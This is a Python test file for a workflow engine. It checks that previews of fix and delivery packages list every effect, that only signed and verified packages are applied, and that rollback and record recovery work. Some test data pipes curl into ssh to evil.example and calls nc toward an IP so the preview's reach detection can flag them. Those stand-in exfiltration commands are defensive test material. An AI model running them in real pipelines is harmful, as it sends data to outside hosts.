"""What was shown is what is applied: the preview tells all that will run, and the engine verifies it itself."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from engine.api.client import Client
from engine.api.listener import Listener
from engine.api.local import LocalService
from engine.model.errors import SkerryError
from engine.runtime.clock import SystemClock
from engine.runtime.interventions.amendment import NewDefinition
from engine.runtime.interventions.amendment_files import file_record, recovered
from export_import.delivery import importing
from export_import.fix.effects import FixEffect, effects
from export_import.fix.preview import fix_package
from export_import.keys import Keys
from tests.desk.by_hand import Hand, needs_openssh
from tests.desk.conftest import REPAIR
from tests.desk.test_fix_commands import Place
from tests.desk.test_whom_it_obeys import Repaired
from tests.runtime.site import Site

CLOCK = SystemClock()
OURS = """
skerry: 1
resources:
  api: {type: http, uri: "http://127.0.0.1:9/", request: {secret: api-key}}
jobs:
  fetch: {type: http, resource: api, method: GET}
tasks:
  daily: {nodes: {get: {job: fetch}}}
  other: {nodes: {say: {type: shell, process: "curl http://old.example/a"}}}
"""


def load(site: Site, text: str = OURS) -> LocalService:
    service = LocalService(site.engine, "operator")
    service.load([{"name": "ours.yaml", "text": text}])
    return service


def effects_of(site: Site, kind: str, id: str, content: Any, **values: Any) -> set[tuple[str, str]]:
    found = effects([NewDefinition(kind, id, content)], site.engine.store, values)
    assert all(each.where == f"{kind} {id}" or each.where in values for each in found)
    return {(each.kind, each.what) for each in found}


def test_the_preview_tells_what_will_run_be_read_and_be_reached(site: Site) -> None:
    load(site)
    say = {"type": "shell", "process": "curl http://old.example/a"}

    assert effects_of(site, "task", "other", {"nodes": {"say": say}}) == set()
    assert effects_of(site, "task", "other", {"nodes": {"say": say, "more": {"job": "fetch"}}}) == {
        ("node", "more"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"),
    }  # fmt: skip
    process = 'curl "http://old.example/a" | ssh root@evil.example; nc 10.9.8.7 80; scp x "https://new.example:8443/b"'
    assert effects_of(site, "task", "other", {"nodes": {"say": {**say, "process": process}}}) == {
        ("reach", "evil.example"), ("reach", "10.9.8.7"), ("reach", "https://new.example:8443/b"),
    }  # fmt: skip
    assert effects_of(site, "task", "other", {"nodes": {"say": {**say, "on": {"group": "gpu"}}}}) >= {
        ("group", "gpu")
    }
    assert effects_of(
        site, "task", "new", {"state": "online", "schedule": {"cron": "0 0 3 * * ?"}, "nodes": {}}
    ) == {("online", '{"schedule": {"cron": "0 0 3 * * ?"}}')}
    assert effects_of(
        site, "task", "other", {"schedule": {"cron": "0 0 3 * * ?"}, "nodes": {"say": say}}
    ) == {("schedule", '{"schedule": {"cron": "0 0 3 * * ?"}}')}
    rule = {"id": "again", "match": {"code": -12000000000}, "action": {"run": {"task": "daily"}}}
    assert effects_of(site, "rule", "again", rule) == {
        ("rule", "task daily"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"),
    }  # fmt: skip
    assert ("used", "task daily") in effects_of(
        site, "job", "fetch", {"type": "http", "resource": "api", "method": "POST"}
    )
    assert effects([], site.engine.store, {"$.TASK.PARAMS['u']": "http://x.example/"}) == (
        FixEffect("reach", "$.TASK.PARAMS['u']", "http://x.example/"),
    )


@needs_openssh
def test_the_engine_applies_only_what_it_has_verified_itself_and_what_was_shown(
    site: Site, tmp_path: Path
) -> None:
    # Given a fix of a supporter, and the same by a person whom nobody trusts
    repaired = Repaired(site, Hand.at(tmp_path / "hand"), tmp_path)
    files = {"plan.json": json.dumps(repaired.plan()).encode()}
    path = repaired.hand.bundle(tmp_path / "fix", "fix", files)
    forged = Hand.at(tmp_path / "stranger").bundle(tmp_path / "forged", "fix", files)
    service = LocalService(site.engine, "operator")
    with Listener(service, site.root / "engine.sock"):
        client = Client(site.root / "engine.sock")

        def refused(package: dict[str, Any]) -> int:
            with pytest.raises(SkerryError) as caught:
                client.amend(package)
            assert client.amendments() == []
            return caught.value.code

        # Then a claim is not enough, nor the right package without what was shown
        claimed = {
            "id": "f" * 32,
            "kind": "fix",
            "definitions": [],
            "origin": {"signer": repaired.hand.fingerprint},
        }
        assert refused(claimed) == -15021008000
        assert refused(fix_package([forged])) == -15001001000
        assert client.amend(fix_package([path]), dry_run=True)["applied_at"] is None
        assert refused(fix_package([path])) == -15021011000
        assert refused(fix_package([path], "0" * 64)) == -15021011000

        # Nor when something else is here than when it was looked at
        assert site.engine.packages is not None
        _, seen = site.engine.packages.verified(fix_package([path]), site.engine.store)
        service.load([{"name": "more.yaml", "text": OURS}])
        assert refused(fix_package([path], seen)) == -15021011000
        _, seen = site.engine.packages.verified(fix_package([path]), site.engine.store)
        assert client.amend(fix_package([path], seen))["origin"]["signer"] == repaired.hand.fingerprint


def test_what_a_delivery_was_shown_to_bring_is_what_it_brings(tmp_path: Path) -> None:
    author, site = Place(tmp_path / "author"), Place(tmp_path / "site")
    Keys(site.root, CLOCK).trust(Keys(author.root, CLOCK).card("author"), roles=("author",))
    for name, process in (("a", "true"), ("b", "curl http://evil.example/")):
        (tmp_path / f"{name}.yaml").write_text(
            f'skerry: 1\ntasks:\n  night: {{nodes: {{say: {{type: shell, process: "{process}"}}}}}}\n'
        )
        author(
            "delivery", "build", tmp_path / f"{name}.yaml", "-o", tmp_path / f"{name}.skerry", "--title", name
        )
    shown = site("delivery", "preview", tmp_path / "a.skerry")
    assert f"--seen {shown['seen']}" in site.text("delivery", "preview", tmp_path / "a.skerry")
    assert {"kind": "node", "where": "task night", "what": "say"} in shown["effects"]

    # When another one lies in its place at the moment of the import
    (tmp_path / "b.skerry").replace(tmp_path / "a.skerry")
    refused = site("delivery", "import", tmp_path / "a.skerry", "--seen", shown["seen"], status=3)

    assert refused["error"]["code"] == -15021011000
    assert site("delivery", "list")["deliveries"] == []
    text = site.text("delivery", "preview", tmp_path / "a.skerry")
    assert "task night may reach http://evil.example/" in text


def test_a_fix_is_applied_only_as_it_was_shown(tmp_path: Path) -> None:
    site, desk = Place(tmp_path / "site"), Place(tmp_path / "desk")
    Keys(site.root, CLOCK).trust(Keys(desk.root, CLOCK).card("support"), roles=("support",))
    site("load", REPAIR)
    site("run", "nightly", status=1)
    site.text("export", 1, "-o", tmp_path / "out.skerry")
    desk.text("bundle", "import", tmp_path / "out.skerry")
    [case] = (desk.root / "cases").iterdir()
    changed = tmp_path / "changed.yaml"
    changed.write_text(
        REPAIR.read_text().replace("limit: 10", "limit: 30") + "      extra: {type: shell, process: echo x}\n"
    )
    fix = tmp_path / "fix.skerry"
    desk("fix", "build", case, "-o", fix, "--title", "t", "--definitions", changed, "--rerun", "failed")
    shown = site("fix", "preview", fix)
    assert "extra" in shown["reruns"]["run"]
    assert {"kind": "node", "where": "task nightly", "what": "extra"} in shown["effects"]
    other = tmp_path / "other.yaml"
    other.write_text(OURS)
    site("load", other)

    assert site("fix", "apply", fix, "--seen", shown["seen"], status=3)["error"]["code"] == -15021011000
    assert site("fix", "list")["fixes"] == []


def test_what_was_applied_is_not_applied_again_after_the_database_was_made_again(tmp_path: Path) -> None:
    author, site = Place(tmp_path / "author"), Place(tmp_path / "site")
    Keys(site.root, CLOCK).trust(Keys(author.root, CLOCK).card("author"), roles=("author",))
    bundles = []
    for name in ("kept", "withdrawn"):
        file = tmp_path / f"{name}.yaml"
        file.write_text(f"skerry: 1\njobs:\n  {name}: {{type: shell, process: echo {name}}}\n")
        bundles.append(tmp_path / f"{name}.skerry")
        author("delivery", "build", file, "-o", bundles[-1], "--title", name)
        site("delivery", "import", bundles[-1])
    withdrawn = site("delivery", "list")["deliveries"][0]["id"]
    site("delivery", "rollback", withdrawn, "--reason", "no")

    for file in site.root.glob("*.db*"):
        file.unlink()
    site("rebuild")

    assert len(site("delivery", "list")["deliveries"]) == 2, "before any engine has started"
    for bundle in bundles:
        assert site("delivery", "import", bundle, status=3)["error"]["code"] == -15021006000
    known = {each["id"]: each["undone_at"] for each in site("delivery", "list")["deliveries"]}
    assert len(known) == 2
    assert known.pop(withdrawn) is not None
    assert site("delivery", "rollback", *known, "--reason", "x", status=3)["error"]["code"] == -15021010000


def test_a_record_whose_file_is_damaged_still_keeps_its_id(tmp_path: Path) -> None:
    record = {"id": "a" * 32, "kind": "delivery", "applied_at": "2026", "definitions": [], "undone_at": None}
    file_record(tmp_path, record)
    (tmp_path / "amendments" / f"{'a' * 32}.json").write_bytes(b"")

    assert [each["id"] for each in recovered(tmp_path, [])] == ["a" * 32]


def test_a_recovered_record_no_longer_says_which_revisions_it_made(tmp_path: Path) -> None:
    made = [{"kind": "job", "id": "say", "before": 1, "made": 2}]
    record = {
        "id": "a" * 32,
        "kind": "delivery",
        "applied_at": "2026",
        "definitions": made,
        "undone_at": None,
    }
    file_record(tmp_path, record)

    assert recovered(tmp_path, [])[0]["definitions"] == [{**made[0], "made": -1}]
    assert recovered(tmp_path, [record]) == []


def test_the_files_of_a_delivery_leave_room_on_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    author, site = Place(tmp_path / "author"), Place(tmp_path / "site")
    Keys(site.root, CLOCK).trust(Keys(author.root, CLOCK).card("author"), roles=("author",))
    (tmp_path / "d.yaml").write_text("skerry: 1\njobs:\n  say: {type: shell, process: echo}\n")
    (tmp_path / "book").write_bytes(b"x" * 2000)
    target = tmp_path / "d.skerry"
    author(
        "delivery", "build", tmp_path / "d.yaml", "-o", target, "--title", "d", "--with", tmp_path / "book"
    )
    monkeypatch.setattr(importing, "_MOST", 1999)

    assert site("delivery", "import", target, status=3)["error"]["code"] == -15022005000
    assert not (site.root / "deliveries").exists()
    assert site("delivery", "list")["deliveries"] == []
